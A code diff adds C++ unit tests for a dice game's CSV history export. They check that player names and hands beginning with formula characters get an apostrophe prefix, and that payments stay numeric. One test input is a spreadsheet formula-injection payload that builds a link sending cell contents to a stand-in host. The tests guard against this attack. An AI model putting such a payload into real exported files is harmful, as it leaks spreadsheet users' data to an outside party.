@@ -178,3 +178,65 @@ TEST(GameHistory, CsvQuotesNamesWithCommasQuotesAndLineBreaks)
               "2,,\"Smith, J.\",,,30,,\r\n"
               "2,親,\"\"\"Lucky\"\"\",,,,,\r\n");
 }
+
+namespace {
+
+// The fields of CSV text as any reader takes them: quoted fields with doubled quotes, CR LF lines.
+QList<QStringList> readCsv(const QString& text)
+{
+    QList<QStringList> rows{{QString()}};
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text[i];
+        if (quoted && c == '"' && text.mid(i + 1, 1) == u"\"")
+            rows.last().last() += text[++i];
+        else if (c == '"')
+            quoted = !quoted;
+        else if (!quoted && c == ',')
+            rows.last().append(QString());
+        else if (!quoted && c == '\r' && text.mid(i + 1, 1) == u"\n") {
+            ++i;
+            rows.append(QStringList{QString()});
+        } else
+            rows.last().last() += c;
+    }
+    rows.removeLast();  // after the last line's end
+    return rows;
+}
+
+}  // namespace
+
+TEST(GameHistory, CsvKeepsFormulaTextsAsTextAndPaymentsAsNumbers)
+{
+    const struct { QString text, read; } cases[] = {
+        {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "'=HYPERLINK(\"http://x/?\"&A1,\"y\")"},
+        {"+1", "'+1"},
+        {"-Ken-", "'-Ken-"},
+        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "'\r=1"},
+        {"a=b", "a=b"},
+        {"'quoted", "'quoted"},
+        {"太郎", "太郎"},
+    };
+    for (const auto& c : cases) {
+        GameHistory history;
+        history.start({c.text, "花子"}, 1000);
+        history.openTurn(0, {0, 40});
+        history.addThrow(0, Faces{1, 2, 3}, -2, c.text);
+        history.settle({1040, 960});
+        const QList<QStringList> rows = readCsv(historyTable::csv(history));
+        ASSERT_EQ(rows.size(), 3) << c.text.toStdString();
+        const QStringList banker = rows[1];
+        const QStringList player = rows[2];
+        ASSERT_EQ(banker.size(), historyTable::ColumnCount) << c.text.toStdString();
+        EXPECT_EQ(banker[historyTable::NameColumn], c.read) << c.text.toStdString();
+        EXPECT_EQ(banker[historyTable::HandColumn], c.read) << c.text.toStdString();
+        EXPECT_EQ(banker[historyTable::ThrowsColumn], "1-2-3");
+        EXPECT_EQ(banker[historyTable::PaymentColumn], "+40");
+        EXPECT_EQ(banker[historyTable::ScoreColumn], "1040");
+        EXPECT_EQ(player[historyTable::PaymentColumn], "-40");
+        EXPECT_EQ(player[historyTable::BetColumn], "40");
+        EXPECT_EQ(player[historyTable::NameColumn], "花子");
+    }
+}
